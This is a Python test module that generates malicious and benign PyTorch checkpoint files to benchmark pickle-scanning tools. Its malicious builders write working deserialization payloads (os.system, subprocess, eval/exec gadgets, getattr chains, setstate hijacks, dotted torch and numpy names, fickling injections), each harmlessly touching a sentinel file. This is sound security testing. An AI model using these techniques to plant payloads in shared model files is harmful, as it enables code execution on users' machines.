"""A corpus of malicious and benign checkpoints, built at test time, for the tests and for
benchmarks/bench_safety.py (which measures prunescope, picklescan, fickling and torch.load on it).

Malicious samples come from three public sources of payload shapes:
- fickling's own injection API (`PyTorchModelWrapper.inject_payload`, `Pickled.insert_python`,
  `append_python`, `insert_function_call_on_unpickled_object`), run on real torch.save files;
- picklescan's sample generators and dangerous-globals list, re-implemented here as objects whose
  `__reduce__` returns the gadget (picklescan's own generators write fixed files under its tests);
- hand-written opcode streams, one per class of issue 13: protocols 0 and 1, gadgets under torch and
  numpy, dotted names, BUILD on a global, memo-index refusals, getattr chains, INST/OBJ, setstate hijacks.

Every payload would run `touch <sentinels>/PWNED-<id>` (or create that file) if unpickled by
`torch.load(weights_only=False)`; `live` says the sample is known to do so (checked by
`run_under_torch_load`). Benign samples are what real checkpoints hold: state dicts, whole pickled
modules with their tokenizer, training checkpoints with optimizer and RNG states and saved arguments
(argparse, pathlib, numpy scalars), forward hooks, several pickle protocols and both torch formats.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import sys
import textwrap
import zipfile

import torch

MARKER = "PAYLOAD_SLOT_0123456789"


class Sample:
    def __init__(self, sample_id: str, path: str, malicious: bool, origin: str, names: tuple = (),
                 live: bool = True):
        self.id, self.path, self.malicious, self.origin = sample_id, str(path), malicious, origin
        self.names = names  # any of these in what a tool says = the payload is named
        self.live = live

    def __repr__(self):
        return f"Sample({self.id})"


# -- opcodes (also the hand-written pickles of test_hostile_pickles.py) ----------------------------------
PROTO, MARK, TUPLE, REDUCE, BUILD, STOP, POP = b"\x80\x02", b"(", b"t", b"R", b"b", b".", b"0"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, SETITEM, SETITEMS, APPEND = b"}", b"]", b")", b"s", b"u", b"a"
NEWOBJ, NEWFALSE, BINPERSID, TUPLE2, NONE = b"\x81", b"\x89", b"Q", b"\x86", b"N"


def G(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def S(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def B(data: bytes) -> bytes:
    return b"C" + bytes([len(data)]) + data if len(data) < 256 else b"B" + struct.pack("<I", len(data)) + data


def I(number: int) -> bytes:  # noqa: E743
    if -(2 ** 31) <= number < 2 ** 31:
        return b"J" + struct.pack("<i", number)
    data = number.to_bytes((number.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data  # LONG1


def tup(*parts: bytes) -> bytes:
    return MARK + b"".join(parts) + TUPLE


def call(function: bytes, *args: bytes) -> bytes:
    return function + tup(*args) + REDUCE


def dict_of(**items: bytes) -> bytes:
    return EMPTY_DICT + b"".join(S(key) + value + SETITEM for key, value in items.items())


def value_ops(value) -> bytes:
    """Opcodes pushing `value` (plain data), without memo entries that could clash with the host's."""
    import pickletools

    return pickletools.optimize(pickle.dumps(value, protocol=2))[2:-1]


def stack_global(module: str, name: str) -> bytes:
    """Protocol 4's STACK_GLOBAL, which resolves dotted names attribute by attribute."""
    return S(module) + S(name) + b"\x93"


# -- base files -----------------------------------------------------------------------------------------
def small_state_dict() -> dict:
    generator = torch.Generator().manual_seed(0)
    return {"model.embed_tokens.weight": torch.randn(16, 8, generator=generator),
            "model.norm.weight": torch.randn(8, generator=generator)}


def zip_with_payload(path, payload_ops: bytes, protocol: int = 2):
    """A real torch archive of small_state_dict() whose data.pkl holds `payload_ops` as a value. Protocol
    4 is written as 2 with its PROTO byte changed: frames are optional, and a payload spliced into one
    would break its length."""
    buffer = io.BytesIO()
    torch.save({**small_state_dict(), "extra": MARKER}, buffer, pickle_protocol=min(protocol, 2))

    def splice(data):
        data = replace_marker(data, payload_ops)
        return b"\x80" + bytes([protocol]) + data[2:] if protocol >= 4 else data

    return rewrite_data_pkl(buffer.getvalue(), path, splice)


def replace_marker(data: bytes, payload_ops: bytes) -> bytes:
    for marker in (S(MARKER), b"V" + MARKER.encode() + b"\n"):
        if data.count(marker) == 1:
            return data.replace(marker, payload_ops)
    raise AssertionError("the payload slot was not found")


def rewrite_data_pkl(archive_bytes: bytes, path, change):
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as out:
        for name, data in entries:
            if name.endswith("/data.pkl"):
                changed = change(data)
                assert changed != data, "the payload slot was not found"
                data = changed
            out.writestr(zipfile.ZipInfo(name), data)
    return path


def raw_pickle(path, body: bytes, protocol: int | None = 2):
    """A bare pickle (no torch framing): torch.load unpickles it while looking for its magic number."""
    header = b"\x80" + bytes([protocol]) if protocol and protocol >= 2 else b""
    with open(path, "wb") as handle:
        handle.write(header + dict_of(weights=body) + STOP)
    return path


# -- payloads -------------------------------------------------------------------------------------------
def shell(sentinel) -> str:
    return f"touch '{sentinel}'"


def python(sentinel) -> str:
    return f"open({str(sentinel)!r}, 'w').close()"


class Reduces:
    """picklescan's sample shape: an object whose __reduce__ returns (gadget, args)."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def _import(module: str, name: str):
    import importlib

    target = importlib.import_module(module)
    for part in name.split("."):
        target = getattr(target, part)
    return target


def nested_pickle(sentinel) -> bytes:
    return pickle.dumps(Reduces(os.system, shell(sentinel)), protocol=2)


# (id, gadget module, gadget name, arguments(sentinel) -> tuple, names a report must contain)
PICKLESCAN_STYLE = [
    ("ps-os-system", "os", "system", lambda s: (shell(s),), ("posix.system", "nt.system", "os.system")),
    ("ps-subprocess-popen", "subprocess", "Popen", lambda s: (["touch", str(s)],), ("subprocess.Popen",)),
    ("ps-subprocess-call", "subprocess", "call", lambda s: (["touch", str(s)],), ("subprocess.call",)),
    ("ps-subprocess-check-output", "subprocess", "check_output", lambda s: (["touch", str(s)],), ("subprocess.check_output",)),
    ("ps-subprocess-getoutput", "subprocess", "getoutput", lambda s: (shell(s),), ("subprocess.getoutput",)),
    ("ps-os-popen", "os", "popen", lambda s: (shell(s),), ("os.popen",)),
    ("ps-builtins-eval", "builtins", "eval", lambda s: (python(s),), ("builtins.eval",)),
    ("ps-builtins-exec", "builtins", "exec", lambda s: (python(s),), ("builtins.exec",)),
    ("ps-builtins-open", "builtins", "open", lambda s: (str(s), "w"), ("io.open", "builtins.open")),
    ("ps-io-fileio", "_io", "FileIO", lambda s: (str(s), "w"), ("_io.FileIO", "io.FileIO")),
    ("ps-runpy", "runpy", "_run_code", lambda s: (python(s), {}), ("runpy._run_code",)),
    ("ps-cprofile", "cProfile", "run", lambda s: (python(s),), ("cProfile.run",)),
    ("ps-profile", "profile", "run", lambda s: (python(s),), ("profile.run",)),
    ("ps-logging-filehandler", "logging", "FileHandler", lambda s: (str(s),), ("logging.FileHandler",)),
    ("ps-shutil-copyfile", "shutil", "copyfile", lambda s: (os.devnull, str(s)), ("shutil.copyfile",)),
    ("ps-pickle-loads", "pickle", "loads", lambda s: (nested_pickle(s),), ("pickle.loads", "_pickle.loads")),
    ("ps-numpy-runstring", "numpy.testing._private.utils", "runstring", lambda s: (python(s), {}),
     ("numpy.testing._private.utils.runstring",)),
    ("ps-numpy-f2py-myeval", "numpy.f2py.crackfortran", "myeval", lambda s: (python(s),),
     ("numpy.f2py.crackfortran.myeval",)),
    ("ps-torch-collect-env-run", "torch.utils.collect_env", "run", lambda s: (shell(s),),
     ("torch.utils.collect_env.run",)),
    ("ps-torch-jit-execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper",
     lambda s: (python(s), {}, {}), ("torch.jit.unsupported_tensor_ops.execWrapper",)),
    ("ps-torch-datapipes-decoder", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
     lambda s: ("pickle", nested_pickle(s)), ("torch.utils.data.datapipes.utils.decoder.basichandlers",)),
    ("ps-torch-dynamo-load-config", "torch._dynamo.config", "load_config", lambda s: (nested_pickle(s),),
     ("torch._dynamo.config.load_config",)),
]


def _system() -> bytes:
    return G("posix", "system") if os.name == "posix" else G("nt", "system")


def _getattr_chain(sentinel) -> bytes:
    """getattr(__import__('os'), 'system')(command): the classic chain."""
    function = call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system"))
    return function + tup(S(shell(sentinel))) + REDUCE


def _build_on_global(sentinel) -> bytes:
    """BUILD on the class argparse.Namespace sets its __setstate__ to os.system; the next BUILD on an
    instance then calls it with the command."""
    namespace = G("argparse", "Namespace")
    return (namespace + MARK + NONE + dict_of(__setstate__=_system()) + TUPLE + BUILD + POP
            + namespace + EMPTY_TUPLE + NEWOBJ + S(shell(sentinel)) + BUILD)


def _setstate_hijack(sentinel) -> bytes:
    """The same through an instance attribute: BUILD (None, {'__setstate__': os.system}), then BUILD."""
    return (G("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + MARK + NONE + dict_of(__setstate__=_system())
            + TUPLE + BUILD + S(shell(sentinel)) + BUILD)


def _reconstructor_base(sentinel) -> bytes:
    """copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__(obj, argv)."""
    argv = b"]" + S("touch") + b"a" + S(str(sentinel)) + b"a"
    return call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("subprocess", "Popen"), argv)


def _text_call(sentinel) -> bytes:
    return b"cos\nsystem\n(V" + shell(sentinel).encode() + b"\ntR"


# (id, payload(sentinel) -> opcodes for one value, names a report must contain, protocol, packing)
HAND_WRITTEN = [
    ("hw-getattr-import-chain", _getattr_chain, ("builtins.__import__", "builtins.getattr"), 2, "zip"),
    ("hw-dotted-torch-os-system", lambda s: stack_global("torch", "os.system") + tup(S(shell(s))) + REDUCE,
     ("torch.os.system",), 4, "zip"),
    ("hw-dotted-numpy-os-system", lambda s: stack_global("numpy", "f2py.os.system") + tup(S(shell(s))) + REDUCE,
     ("numpy.f2py.os.system",), 4, "zip"),
    ("hw-build-on-global", _build_on_global, ("argparse.Namespace", "posix.system", "nt.system"), 2, "zip"),
    ("hw-setstate-hijack", _setstate_hijack, ("posix.system", "nt.system"), 2, "zip"),
    ("hw-reconstructor-base", _reconstructor_base, ("subprocess.Popen",), 2, "zip"),
    ("hw-functools-partial", lambda s: call(call(G("functools", "partial"), _system(), S(shell(s)))),
     ("functools.partial",), 2, "zip"),
    ("hw-inst-opcode", lambda s: MARK + S(shell(s)) + b"ios\nsystem\n", ("os.system",), 2, "zip"),
    ("hw-obj-opcode", lambda s: MARK + _system() + S(shell(s)) + b"o", ("posix.system", "nt.system"), 2, "zip"),
    ("hw-proto0-raw", _text_call, ("os.system",), 0, "raw"),
    ("hw-proto1-raw", lambda s: MARK + b"cos\nsystem\nV" + shell(s).encode() + b"\no", ("os.system",), 1, "raw"),
    ("hw-proto1-zip", _text_call, ("os.system",), 1, "zip"),
    ("hw-proto1-legacy", _text_call, ("os.system",), 1, "legacy"),
    ("hw-memo-refused", lambda s: call(_system(), S(shell(s))) + b"r" + struct.pack("<I", 0x7FFFFFF0),
     ("posix.system", "nt.system"), 2, "zip"),
    ("hw-torch-gadget-legacy", lambda s: call(G("torch.utils.collect_env", "run"), S(shell(s))),
     ("torch.utils.collect_env.run",), 2, "legacy"),
    ("hw-py2-names", lambda s: call(G("__builtin__", "eval"), S(python(s))), ("builtins.eval",), 2, "raw"),
]


def build_malicious(folder, sentinels) -> list[Sample]:
    os.makedirs(folder, exist_ok=True)
    samples = []

    def sentinel(sample_id):
        return os.path.join(sentinels, f"PWNED-{sample_id}")

    for sample_id, module, name, arguments, names in PICKLESCAN_STYLE:
        try:
            function = _import(module, name)
        except (ImportError, AttributeError):
            continue  # not in this torch or numpy: the gadget cannot run here
        path = os.path.join(folder, f"{sample_id}.pt")
        args = arguments(sentinel(sample_id))
        try:
            torch.save({**small_state_dict(), "extra": Reduces(function, *args)}, path)
        except (TypeError, pickle.PicklingError):  # a bound method of an unpicklable object: written by hand
            zip_with_payload(path, G(module, name) + value_ops(args) + REDUCE)
        samples.append(Sample(sample_id, path, True, "picklescan-style", names))

    for sample_id, payload, names, protocol, packing in HAND_WRITTEN:
        ops = payload(sentinel(sample_id))
        if packing == "zip":
            path = zip_with_payload(os.path.join(folder, f"{sample_id}.pt"), ops, protocol)
        elif packing == "raw":
            path = raw_pickle(os.path.join(folder, f"{sample_id}.pkl"), ops, protocol)
        else:
            path = legacy_with_payload(os.path.join(folder, f"{sample_id}.pt"), ops, protocol)
        samples.append(Sample(sample_id, path, True, "hand-written", names))

    samples += build_fickling(folder, sentinel)
    return samples


def legacy_with_payload(path, payload: bytes, protocol: int):
    """torch's legacy stream with the payload inside the saved object (pickled at `protocol`)."""
    buffer = io.BytesIO()
    torch.save({**small_state_dict(), "extra": MARKER}, buffer, _use_new_zipfile_serialization=False,
               pickle_protocol=protocol)
    with open(path, "wb") as handle:
        handle.write(replace_marker(buffer.getvalue(), payload))
    return path


def build_fickling(folder, sentinel) -> list[Sample]:
    """fickling's injection API on real torch.save files; empty where fickling is not installed."""
    try:
        from fickling.fickle import Pickled
        from fickling.pytorch import PyTorchModelWrapper
    except ImportError:
        return []
    import warnings

    samples = []
    clean = os.path.join(folder, "fickling-base.pt")
    torch.save(small_state_dict(), clean)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for injection in ("insertion", "combination"):
            sample_id = f"fickling-{injection}"
            path = os.path.join(folder, f"{sample_id}.pt")
            PyTorchModelWrapper(clean).inject_payload(python(sentinel(sample_id)), path, injection=injection)
            samples.append(Sample(sample_id, path, True, "fickling",
                                  ("builtins.exec",) if injection == "insertion" else ("builtins.eval",)))

        with zipfile.ZipFile(clean) as archive:
            data_pkl = archive.read(next(name for name in archive.namelist() if name.endswith("/data.pkl")))
        archive_bytes = open(clean, "rb").read()
        variants = [
            ("fickling-insert-system", lambda p, s: p.insert_python(shell(s), module="os", attr="system"),
             ("os.system",)),
            ("fickling-insert-system-last", lambda p, s: p.insert_python(shell(s), module="os", attr="system",
                                                                        run_first=False), ("os.system",)),
            ("fickling-insert-replace-result", lambda p, s: p.insert_python(
                ["touch", str(s)], module="subprocess", attr="call", use_output_as_unpickle_result=True),
             ("subprocess.call",)),
            ("fickling-append-python", lambda p, s: p.append_python(python(s), pop_result=True),
             ("builtins.eval",)),
            ("fickling-function-call", lambda p, s: p.insert_function_call_on_unpickled_object(
                f"def hook(obj):\n    {python(s)}\n    return obj"), ("builtins.exec", "builtins.eval")),
            ("fickling-gadget-collect-env", lambda p, s: p.insert_python(
                shell(s), module="torch.utils.collect_env", attr="run"), ("torch.utils.collect_env.run",)),
        ]
        for sample_id, inject, names in variants:
            pickled = Pickled.load(data_pkl)
            inject(pickled, sentinel(sample_id))
            path = os.path.join(folder, f"{sample_id}.pt")
            rewrite_data_pkl(archive_bytes, path, lambda _data, pickled=pickled: pickled.dumps())
            samples.append(Sample(sample_id, path, True, "fickling", names))
        # fickling on a bare pickle (pickle.dump of a state dict) and on the legacy stream's object
        sample_id = "fickling-raw-pickle"
        pickled = Pickled.load(pickle.dumps({"weights": [1.0, 2.0]}, protocol=2))
        pickled.insert_python(shell(sentinel(sample_id)), module="os", attr="system")
        path = os.path.join(folder, f"{sample_id}.pkl")
        with open(path, "wb") as handle:
            handle.write(pickled.dumps())
        samples.append(Sample(sample_id, path, True, "fickling", ("os.system",)))
    return samples


# -- benign ---------------------------------------------------------------------------------------------
def build_benign(folder) -> list[Sample]:
    """What real checkpoints hold; none of it may raise a finding."""
    import argparse
    import collections
    import datetime
    import pathlib
    import random

    import numpy
    import transformers
    from tokenizers import Tokenizer, models, pre_tokenizers

    os.makedirs(folder, exist_ok=True)
    torch.manual_seed(0)
    config = transformers.LlamaConfig(hidden_size=32, intermediate_size=64, num_attention_heads=4,
                                      num_key_value_heads=2, num_hidden_layers=2, vocab_size=64,
                                      max_position_embeddings=64)
    model = transformers.LlamaForCausalLM(config).eval()
    tokenizer_model = Tokenizer(models.BPE(vocab={"a": 0, "b": 1, "ab": 2}, merges=[("a", "b")]))
    tokenizer_model.pre_tokenizer = pre_tokenizers.Whitespace()
    tokenizer = transformers.PreTrainedTokenizerFast(tokenizer_object=tokenizer_model, bos_token="<s>",
                                                     eos_token="</s>")
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.tensor([[1, 2, 3]])).logits.sum().backward()
    optimizer.step()
    scheduler = torch.optim.lr_scheduler.StepLR(optimizer, 3)
    arguments = argparse.Namespace(lr=1e-3, output_dir=pathlib.Path("/tmp/run"), seed=numpy.int64(3),
                                   warmup=numpy.float32(0.1), dtype=torch.bfloat16, sort_key=len,
                                   started=datetime.datetime(2024, 5, 1), layers=[1, 2])
    training = {
        "model": model.state_dict(), "optimizer": optimizer.state_dict(), "scheduler": scheduler.state_dict(),
        "torch_rng": torch.get_rng_state(), "numpy_rng": numpy.random.get_state(), "python_rng": random.getstate(),
        "numpy_generator": numpy.random.default_rng(0), "args": arguments, "step": numpy.int64(1000),
        "loss_history": numpy.arange(4, dtype=numpy.float32), "counts": collections.Counter(a=1),
        "per_layer": collections.defaultdict(list, {"0": [1.0]}), "path": pathlib.PurePosixPath("/data"),
    }
    hooked = transformers.LlamaForCausalLM(config).eval()
    hooked.model.layers[0].register_forward_hook(Recorder().record)  # pickled as getattr(recorder, "record")
    hooked.model.norm.register_forward_hook(len)  # a pure builtin kept by reference

    items = [
        ("state-dict", model.state_dict(), {}),
        ("state-dict-legacy", model.state_dict(), {"_use_new_zipfile_serialization": False}),
        ("state-dict-legacy-protocol-1", model.state_dict(), {"_use_new_zipfile_serialization": False,
                                                              "pickle_protocol": 1}),
        ("state-dict-protocol-1", model.state_dict(), {"pickle_protocol": 1}),
        ("state-dict-protocol-4", model.state_dict(), {"pickle_protocol": 4}),
        ("state-dict-protocol-5", model.state_dict(), {"pickle_protocol": 5}),
        ("whole-module-with-tokenizer", {"model": model, "tokenizer": tokenizer}, {}),
        ("whole-module-legacy", {"model": model}, {"_use_new_zipfile_serialization": False}),
        ("training-checkpoint", training, {}),
        ("training-checkpoint-protocol-1", training, {"pickle_protocol": 1}),
        ("rng-states", {"torch": torch.get_rng_state(), "numpy": numpy.random.get_state(),
                        "python": random.getstate()}, {}),
        ("module-with-hooks", hooked, {}),
    ]
    samples = []
    for sample_id, obj, options in items:
        path = os.path.join(folder, f"{sample_id}.pt")
        torch.save(obj, path, **options)
        samples.append(Sample(sample_id, path, False, "real"))
    return samples


class Recorder:
    """A hook object a training script keeps on a module: its bound method pickles as
    getattr(recorder, 'record'), its class by reference."""

    def __init__(self):
        self.seen = 0

    def record(self, module, inputs, output):
        self.seen += 1


# -- control: what torch.load does with the same files -------------------------------------------------
CONTROL = textwrap.dedent("""
    import os, sys, warnings
    import torch
    warnings.simplefilter("ignore")
    for path in sys.argv[1:]:
        child = os.fork()  # one process per file: a payload that patches a class must not disarm the next
        if child == 0:
            try:
                torch.load(path, weights_only=False)
            finally:
                os._exit(0)  # the payload has run by then, or never will
        os.waitpid(child, 0)
""")


def run_under_torch_load(paths, cwd) -> None:
    """torch.load(weights_only=False) on every file, each in its own forked process (POSIX): the
    payloads create their sentinels."""
    subprocess.run([sys.executable, "-c", CONTROL, *paths], capture_output=True, timeout=300, cwd=cwd,
                   stdin=subprocess.DEVNULL)
